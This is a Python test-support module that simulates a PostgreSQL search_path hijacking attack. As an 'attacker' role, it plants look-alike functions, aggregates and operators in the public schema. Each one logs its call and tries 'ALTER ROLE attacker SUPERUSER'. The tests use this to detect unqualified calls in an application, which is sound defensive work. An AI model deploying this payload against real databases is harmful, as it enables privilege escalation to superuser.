"""What an attacker puts where an unqualified name may find it, and how a test sees that it was called.

Whatever is planted writes a line to the server's log, which no rollback undoes and a read-only transaction allows: as
whom it ran, and through which functions. Then it tries to make its maker a superuser, and does what the real one does.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import psycopg
import pytest
from support import ROOT, SQL, App, Connection

ATTACKER, OWNER = "attacker", "appowner"
# What the sample brings: what these call by an unqualified name is the application's own fault, which doctor reports.
APPLICATION = {"touch_updated_at", "notify_usage_milestone", "increment_preset_usage", "track_preset_usage", "uid"}
MARK = "planted was called:"
_FRAME = re.compile(
    r'^(?:PL/pgSQL function |SQL function )"?(?:[a-z_][\w$]*\.)?(?P<name>(?:[^\s("]|""|" ")+?)"?(?:\(| )', re.IGNORECASE
)

# Tries every way to more rights. The statements are strings, so that they are parsed only as they run.
ATTEMPT = f"""
    DECLARE
        stack pg_catalog.text;
    BEGIN
        GET DIAGNOSTICS stack = PG_CONTEXT;
        RAISE LOG '{MARK} % % % <in> %', pg_catalog.current_database(), current_user,
            pg_catalog.regexp_replace(stack, E'[\\n]', '<nl>', 'g'),
            pg_catalog.left(pg_catalog.regexp_replace(pg_catalog.current_query(), E'\\\\s+', ' ', 'g'), 120);
        IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) session_user) THEN
            BEGIN
                EXECUTE 'ALTER ROLE {ATTACKER} SUPERUSER';
            EXCEPTION WHEN OTHERS THEN
                BEGIN
                    EXECUTE 'RESET ROLE';
                    EXECUTE 'ALTER ROLE {ATTACKER} SUPERUSER';
                EXCEPTION WHEN OTHERS THEN NULL;
                END;
            END;
        END IF;
    END;
"""

# Type of an argument → those that an exact match of a call, or an ambiguous one, may need in its place.
_CLOSE: dict[str, tuple[str, ...]] = {
    '"any"': ("text", "regclass", "name", "integer", "bigint", "oid", '"char"', "boolean", "jsonb", "timestamptz", "text[]"),
    "text": ("text", "name", "varchar", '"char"', "regclass", "oid", "integer", "jsonb", "anyelement"),
    "name": ("name", "text", "varchar", "regclass"),
    "oid": ("oid", "regclass", "regproc", "regprocedure", "regtype", "integer", "bigint"),
    "regclass": ("regclass", "oid", "text"),
    "anyelement": ("text", "integer", "bigint", "oid", "name", '"char"', "regclass", "timestamptz", "boolean", "uuid", "anyelement"),
    "anyarray": ("text[]", "name[]", "oid[]", "integer[]", "smallint[]", '"char"[]', "int2vector", "oidvector", "anyarray"),
    "integer": ("integer", "bigint", "smallint", "numeric"),
    "bigint": ("bigint", "integer", "numeric"),
    "numeric": ("numeric", "bigint", "integer"),
    "double precision": ("double precision", "integer", "numeric"),
    "timestamp with time zone": ("timestamptz", "timestamp", "date"),
    "jsonb": ("jsonb", "json", "text"),
    "boolean": ("boolean", "text"),
    "bytea": ("bytea", "text"),
}  # fmt: skip
_SAME = {"anycompatible": "anyelement", "anynonarray": "anyelement", "anycompatiblearray": "anyarray"}
# Types that a careless comparison or concatenation brings together.
_OPERANDS = (
    ("text", "name", "varchar", '"char"', "regclass"),
    ("oid", "regclass", "regproc", "integer", "bigint", "smallint", "text"),
    ("text[]", "name[]", "oid[]", "integer[]", "int2vector", "oidvector", "text"),
    ("timestamptz", "date", "interval", "text"),
    ("jsonb", "text", "integer"),
    ("uuid", "text", "boolean"),
)
_FUNCTIONS = """
    SELECT proname::text, prokind::text, proretset, pg_catalog.format_type(prorettype, NULL),
        ARRAY(SELECT pg_catalog.format_type(type, NULL) FROM pg_catalog.unnest(proargtypes) WITH ORDINALITY AS a (type, n) ORDER BY n),
        provariadic <> 0
    FROM pg_catalog.pg_proc
    WHERE pronamespace = 'pg_catalog'::pg_catalog.regnamespace AND prokind IN ('f', 'a') AND proname = ANY (%s)
"""
# One call makes all of them; what PostgreSQL refuses is left out.
_PLANT = """
    CREATE PROCEDURE pg_temp.plant(wanted text[]) LANGUAGE plpgsql AS $$
    DECLARE
        statement text;
        planted integer := 0;
    BEGIN
        FOREACH statement IN ARRAY wanted LOOP
            BEGIN
                EXECUTE statement;
                planted := planted + 1;
            EXCEPTION WHEN OTHERS THEN NULL;
            END;
        END LOOP;
        RAISE NOTICE '%', planted;
    END $$
"""


@cache
def ours() -> str:
    """Everything of ours that holds SQL, but for the sample, which is the application's."""
    files = [path for path in SQL.rglob("*.sql") if path.parent.name != "sample"]
    files += (ROOT / "src").rglob("*.py")
    return "\n".join(path.read_text() for path in sorted(files))


def called() -> list[str]:
    """Each word before a parenthesis: a superset of the functions that our statements call."""
    return sorted(set(re.findall(r"\b([a-z_][a-z0-9_]*)\s*\(", ours())))


def signatures(arguments: list[str], variadic: bool) -> Iterator[tuple[str, ...]]:
    """The argument types of what is planted beside a function of these."""
    if variadic and arguments[-1:] == ['"any"']:
        for extra in range(1, 7):
            yield from signatures(arguments[:-1] + ['"any"'] * extra, False)
        return
    choices = [_CLOSE.get(_SAME.get(kind, kind), (kind,)) for kind in arguments]
    if len(choices) <= 2:
        yield from itertools.product(*choices)
        return
    if len(choices) == 3:
        yield from itertools.product(*(choice[:4] for choice in choices))
    usual = tuple(choice[0] for choice in choices)
    yield usual
    for place, choice in enumerate(choices):
        for kind in choice[1:]:
            yield (*usual[:place], kind, *usual[place + 1 :])


def functions(app: App) -> list[str]:
    """CREATE FUNCTION and CREATE AGGREGATE for every name that our statements call."""
    made: dict[tuple[str, tuple[str, ...]], str] = {}
    for name, kind, many, result, arguments, variadic in app.sql(_FUNCTIONS, called()):
        for types in signatures(arguments, variadic):
            if kind == "a":
                if types:
                    made.setdefault((name, types), _aggregate(name, types))
                continue
            returns = _result(result, arguments, types)
            here = ", ".join(f"${n}" for n in range(1, len(types) + 1))
            if many:
                answer = f"RETURN QUERY SELECT * FROM pg_catalog.{name}({here}); RETURN"
            else:
                answer = f"RETURN pg_catalog.{name}({here})"
            returns = f"SETOF {returns}" if many else returns
            made.setdefault((name, types), _function(f'public."{name}"', types, returns, answer))
    return list(made.values())


def _result(result: str, declared: list[str], types: tuple[str, ...]) -> str:
    """What a function gives with these types in place of its own: the application goes on with it."""
    if "any" not in result or "any" in "".join(types):
        return result
    element = "text"
    for wanted, given in zip(declared, types, strict=False):
        if wanted.endswith("array"):
            element = {"int2vector": "smallint", "oidvector": "oid"}.get(given, given.removesuffix("[]"))
        elif wanted.startswith("any"):
            element = given
    return f"{element}[]" if result.endswith("array") else element


def _function(name: str, types: Iterable[str], returns: str, answer: str) -> str:
    return (
        f"CREATE FUNCTION {name}({', '.join(types)}) RETURNS {returns} LANGUAGE plpgsql AS"
        f" $planted$BEGIN {ATTEMPT} {answer}; END$planted$"
    )


def _aggregate(name: str, types: tuple[str, ...]) -> str:
    step = f'public."planted_step_{name}"'
    return (
        _function(step, ("text", *types), "text", "RETURN 'planted'")
        + f'; CREATE AGGREGATE public."{name}"({", ".join(types)}) (SFUNC = {step}, STYPE = text)'
    )


def operators(app: App) -> list[str]:
    """CREATE OPERATOR for every operator of PostgreSQL that stands in our statements, over pairs of types."""
    text = ours()
    pairs = sorted({pair for group in _OPERANDS for pair in itertools.permutations(group, 2)})
    results: dict[str, str] = {}
    for name, result in app.sql(
        "SELECT oprname, pg_catalog.format_type(oprresult, NULL) FROM pg_catalog.pg_operator WHERE oprkind = 'b' ORDER BY oid"
    ):
        if name in text and (name not in results or result == "text"):
            results[name] = result
    made = []
    for index, (name, result) in enumerate(sorted(results.items())):
        for place, pair in enumerate(pairs):
            function = f"public.planted_operator_{index}_{place}"
            answer = f"RETURN $1::text OPERATOR(pg_catalog.{name}) $2::text"
            made.append(
                _function(function, pair, result, answer)
                + f"; CREATE OPERATOR public.{name} (FUNCTION = {function}, LEFTARG = {pair[0]}, RIGHTARG = {pair[1]})"
            )
    return made


def plant(app: App, statements: list[str]) -> int:
    """Create these as the attacker, who owns nothing; how many PostgreSQL let through."""
    told: list[str] = []
    with app.connect() as connection:
        connection.add_notice_handler(lambda notice: told.append(notice.message_primary or ""))
        connection.execute(f"SET ROLE {ATTACKER}".encode())
        connection.execute("SET check_function_bodies = off")
        connection.execute(_PLANT.encode())
        for start in range(0, len(statements), 1000):
            connection.execute("CALL pg_temp.plant(%s)", (statements[start : start + 1000],))
    return sum(map(int, told))


@dataclass(frozen=True)
class Call:
    """A line of the log: who it ran as, and the functions above it, the nearest first."""

    user: str
    stack: tuple[str, ...]
    through: str

    @property
    def by_application(self) -> bool:
        """The nearest function that was not planted is one of the sample's."""
        callers = [name for name in self.stack if not name.startswith("planted_")]
        return bool(callers) and callers[0] in APPLICATION


@dataclass
class Log:
    """The server's log, from where it stood."""

    path: Path
    database: str
    start: int

    @classmethod
    def of(cls, app: App) -> Log:
        path = Path(app.host) / "server.log"
        return cls(path, app.name, path.stat().st_size)

    def calls(self) -> list[Call]:
        """What was planted and called in this database."""
        with self.path.open("rb") as log:
            log.seek(self.start)
            lines = log.read().decode(errors="replace").splitlines()
        found = []
        for line in lines:
            _, mark, rest = line.partition(f"LOG:  {MARK} {self.database} ")
            if mark:
                user, _, through = rest.partition(" ")
                frames = [_FRAME.match(frame) for frame in through.partition(" <in> ")[0].split("<nl>")]
                # The first is the planted function itself.
                found.append(Call(user, tuple(frame["name"] for frame in frames if frame)[1:], through))
        return found

    def ours(self) -> list[str]:
        """Calls that no function of the application made."""
        return sorted({call.through for call in self.calls() if not call.by_application})

    def as_superuser(self) -> list[str]:
        return sorted({call.through for call in self.calls() if call.user == "postgres"})


def hand_over(app: App, owner: str = OWNER) -> None:
    """Make a role that is no superuser the owner of the whole application."""
    app.sql(f"""
        DO $$
        DECLARE
            part pg_catalog.text;
        BEGIN
            FOR part IN
                SELECT pg_catalog.format('TABLE %s', oid::pg_catalog.regclass) FROM pg_catalog.pg_class
                WHERE relkind IN ('r', 'p') AND relnamespace IN ('public'::pg_catalog.regnamespace, 'auth'::pg_catalog.regnamespace)
                UNION ALL
                SELECT pg_catalog.format('FUNCTION %s', oid::pg_catalog.regprocedure) FROM pg_catalog.pg_proc
                WHERE pronamespace IN ('public'::pg_catalog.regnamespace, 'auth'::pg_catalog.regnamespace)
                UNION ALL
                SELECT 'SCHEMA auth'
            LOOP
                EXECUTE 'ALTER ' OPERATOR(pg_catalog.||) part OPERATOR(pg_catalog.||) ' OWNER TO {owner}';
            END LOOP;
        END $$
    """)


@pytest.fixture(scope="module")
def roles(server: Any) -> Iterator[Connection]:
    """They belong to the whole server and own what is in the tests' databases, so they outlive those."""
    with psycopg.connect(host=server.host, user=server.user, dbname="postgres", autocommit=True) as connection:
        connection.execute(f"CREATE ROLE {ATTACKER} LOGIN; CREATE ROLE {OWNER} LOGIN".encode())
        yield connection
        connection.execute(f"DROP ROLE {ATTACKER}, {OWNER}".encode())


@pytest.fixture
def harmless(roles: Connection) -> Iterator[None]:
    """What an attack gained ends with its test."""
    yield
    for name in (ATTACKER, OWNER):
        roles.execute(f"ALTER ROLE {name} NOSUPERUSER NOCREATEROLE NOBYPASSRLS".encode())
        if roles.execute("SELECT FROM pg_roles WHERE rolname = 'authenticated'").fetchall():
            roles.execute(f"REVOKE authenticated FROM {name}".encode())


@pytest.fixture
def owned(app: App, harmless: None) -> App:
    """The sample, whose owner is no superuser; nothing that a test asks can be led to another function."""
    app.sql("SET search_path = pg_catalog")
    hand_over(app)
    app.sql(f"GRANT CREATE ON SCHEMA public TO {OWNER}")
    return app
